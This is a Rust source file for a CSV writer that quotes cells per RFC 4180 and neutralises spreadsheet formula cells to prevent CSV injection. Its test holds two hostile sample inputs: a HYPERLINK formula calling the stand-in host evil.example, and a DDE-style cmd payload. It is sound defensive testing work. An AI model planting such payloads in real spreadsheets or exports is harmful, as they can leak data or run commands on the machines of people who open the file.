//! The one CSV writer: every CSV Twofold writes (audit export, reports, admin verbs'
//! `--format csv`) goes through [`CsvWriter`], which quotes per RFC 4180 and neutralises
//! each cell that a spreadsheet would run as a formula
//! ([`twofold_core::spreadsheet::neutralise_cell`]).

use std::io::Write;

use twofold_core::spreadsheet::neutralise_cell;

/// A CSV file could not be written.
#[derive(Debug, thiserror::Error)]
#[error("cannot write CSV: {0}")]
pub struct CsvError(#[from] csv::Error);

impl From<std::io::Error> for CsvError {
    fn from(e: std::io::Error) -> Self {
        Self(csv::Error::from(e))
    }
}

/// RFC 4180 CSV whose cells are safe to open in a spreadsheet.
#[derive(Debug)]
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    /// A writer onto `out`.
    pub fn new(out: W) -> Self {
        Self { inner: csv::Writer::from_writer(out) }
    }

    /// Writes one row (the header row too), each cell neutralised.
    ///
    /// # Errors
    /// The underlying writer failed.
    pub fn write_row<I, S>(&mut self, cells: I) -> Result<(), CsvError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let record = cells.into_iter().map(|cell| neutralise_cell(cell.as_ref()).into_owned());
        Ok(self.inner.write_record(record)?)
    }

    /// Flushes what was written.
    ///
    /// # Errors
    /// The underlying writer failed.
    pub fn flush(&mut self) -> Result<(), CsvError> {
        Ok(self.inner.flush()?)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(rows: &[&[&str]]) -> String {
        let mut out = Vec::new();
        let mut writer = CsvWriter::new(&mut out);
        for row in rows {
            writer.write_row(row.iter()).unwrap();
        }
        writer.flush().unwrap();
        drop(writer);
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn formula_cells_are_prefixed_and_quoted_cells_stay_rfc_4180() {
        let csv = written(&[
            &["username", "department"],
            &[r#"=HYPERLINK("http://evil.example/?x","click")"#, "@SUM(1+1)*cmd|' /C calc'!A0"],
            &["alice", "Sales, EMEA"],
        ]);
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(&rows[0][0], r#"'=HYPERLINK("http://evil.example/?x","click")"#);
        assert_eq!(&rows[0][1], "'@SUM(1+1)*cmd|' /C calc'!A0");
        assert_eq!(&rows[1][1], "Sales, EMEA");
    }
}
